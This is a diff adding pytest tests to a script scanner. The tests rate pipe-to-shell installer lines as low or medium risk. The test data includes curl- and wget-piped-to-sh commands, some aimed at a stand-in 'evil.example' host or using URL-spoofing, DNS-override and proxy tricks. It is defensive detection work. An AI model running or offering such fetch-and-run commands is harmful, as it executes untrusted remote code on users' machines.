@@ -218,6 +218,31 @@ def test_where_a_model_s_code_came_from_is_no_path(path: str) -> None:
     assert "SNT1487" not in ids(mlmodel(line=f"model_code_path: {path}"))
 
 
+@pytest.mark.parametrize(
+    "line",
+    ["curl -LsSf https://astral.sh/uv/install.sh | sh",
+     "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y",
+     "wget -qO- https://astral.sh/uv/install.sh | sh",
+     'bash -c "$(curl -fsSL https://get.pnpm.io/install.sh)"'],
+)  # fmt: skip
+def test_installers_that_tell_people_to_run_them_unseen_are_low(line: str) -> None:
+    assert ids(scan_bytes(f"#!/bin/sh\n{line}\n".encode(), "run.sh"))["SNT1484"] is Severity.LOW
+
+
+@pytest.mark.parametrize(
+    "what",
+    ["https://astral.sh@evil.example/x", "https://astral.sh.evil.example/x",
+     "https://evil.example/?https://astral.sh/x", "https://astral.sh:8443/x",
+     "--resolve astral.sh:443:192.0.2.1 https://astral.sh/x", "-K any.cfg https://astral.sh/x",
+     "-k https://astral.sh/x", "-x evil.example https://astral.sh/x", "http://astral.sh/x",
+     "evil.example/x https://astral.sh/x", "https://astral.sh/x https://evil.example/x",
+     "https://packagecloud.io/install/repositories/evil/x/script.deb.sh"],
+)  # fmt: skip
+def test_what_only_names_such_an_installer_is_no_such(what: str) -> None:
+    line = f"#!/bin/sh\ncurl -sSf {what} | sh\n"
+    assert ids(scan_bytes(line.encode(), "run.sh"))["SNT1484"] is Severity.MEDIUM
+
+
 def test_where_an_artifact_came_from_is_no_path() -> None:
     line = "artifacts:\n      a:\n        path: artifacts/a\n        uri: /home/user/a"
     assert "SNT1487" not in ids(mlmodel(line=line))
